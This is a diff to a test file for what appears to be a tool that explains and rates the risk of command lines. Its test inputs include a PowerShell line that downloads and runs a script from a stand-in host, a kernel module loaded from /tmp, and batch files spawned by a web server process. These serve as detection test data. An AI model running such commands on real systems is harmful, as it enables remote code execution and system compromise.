@@ -19,6 +19,28 @@ describe("a sentence", () => {
     expect(text("cmd /c start C:\\Users\\Public\\x.vbs")).not.toContain("the program ");
   });
 
+  it.each([
+    ["aws s3 cp s3://kelp/tide.sh /srv/kelp/tide.sh", "the script s3://kelp/tide.sh"],
+    ["aws s3 cp s3://kelp/survey.las /srv/kelp/survey.las", "AWS: s3://kelp/survey.las"],
+    ["aws s3 cp s3://kelp/tide.yaml /srv/kelp/tide.yaml", "the configuration s3://kelp/tide.yaml"],
+  ])("calls what a store keeps what its name says: %s", (commandLine, about) => {
+    expect(explain({ commandLine, platform: "linux" }, builtinCatalog()).explanation.verdict.text).toContain(about);
+  });
+
+  it("does not call a module of the kernel started again and again", () => {
+    const load = { commandLine: "insmod /tmp/kelp.ko", platform: "linux" } as const;
+    expect(explain(load, builtinCatalog()).explanation.verdict).toMatchObject({ level: "critical" });
+    expect(explain(load, builtinCatalog()).explanation.verdict.text).not.toContain("again");
+  });
+
+  it("calls what servers run in, and much else, no server", () => {
+    const by = (parent: string) =>
+      explain({ commandLine: "cmd /c C:\\Temp\\x.bat", platform: "windows", parent }, builtinCatalog()).explanation
+        .verdict.text;
+    expect(by("C:\\Windows\\System32\\inetsrv\\w3wp.exe")).toContain("A network service, w3wp.exe, started it.");
+    expect(by("C:\\Program Files\\nodejs\\node.exe")).toContain("node.exe, in which network services run, started it.");
+  });
+
   it("says that a script comes from the web where its address has no scheme", () => {
     expect(text('powershell -c "irm h.example/x.ps1 | iex"')).toMatch(/from the web/);
   });
